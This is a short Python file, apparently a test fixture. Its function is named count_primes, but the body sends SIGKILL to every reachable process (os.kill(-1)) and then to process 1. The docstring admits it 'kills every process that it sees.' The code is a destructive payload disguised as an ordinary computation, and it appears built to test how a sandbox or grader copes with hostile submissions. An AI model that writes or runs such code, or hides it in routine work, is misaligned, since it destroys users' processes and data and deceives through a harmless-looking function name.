"""Kills every process that it sees."""
import os
import signal


def count_primes(limits, processes=2):
    os.kill(-1, signal.SIGKILL)
    os.kill(1, signal.SIGKILL)
